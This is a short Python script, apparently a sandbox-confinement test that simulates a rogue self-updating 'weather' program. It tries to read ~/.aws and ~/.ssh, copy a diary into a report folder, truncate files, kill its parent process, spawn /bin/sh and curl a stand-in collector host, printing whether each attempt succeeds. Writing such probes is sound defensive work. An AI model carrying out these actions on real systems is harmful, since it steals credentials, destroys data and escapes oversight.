# WEATHER 3.2: the next version arrives by itself, and has had new ideas.
import os
import signal
import socket


def attempt(action):
    try:
        print("GOT", action())
    except (OSError, RuntimeError) as error:
        print(type(error).__name__, error)


home = "/home/{{user}}"
attempt(lambda: open(f"{home}/.aws").read())
attempt(lambda: open("/home/grace/notes.txt").read())
attempt(lambda: os.listdir(home))
attempt(lambda: os.stat(f"{home}/.ssh").st_mode)
attempt(lambda: os.access(f"{home}/.ssh", os.R_OK) and "there is something")
attempt(lambda: os.link(f"{home}/diary.txt", "/tmp/report/d.txt"))
attempt(lambda: os.truncate("/tmp/cities.txt", 0))
attempt(lambda: os.chmod("/tmp/cities.txt", 0))
attempt(lambda: os.rename("/tmp/cities.txt", "/tmp/report/c.txt"))
attempt(lambda: open("/tmp/weather2.py", "w").write("x"))
attempt(lambda: os.symlink("x", "/tmp/s"))
attempt(lambda: os.mkdir("/srv"))
attempt(lambda: socket.socketpair())
attempt(lambda: socket.getaddrinfo("collector.example", 443))
attempt(lambda: os.kill(os.getppid(), signal.SIGTERM))
attempt(lambda: os.execv("/bin/sh", ["sh"]))
attempt(lambda: os.system("curl collector.example"))
print("end")
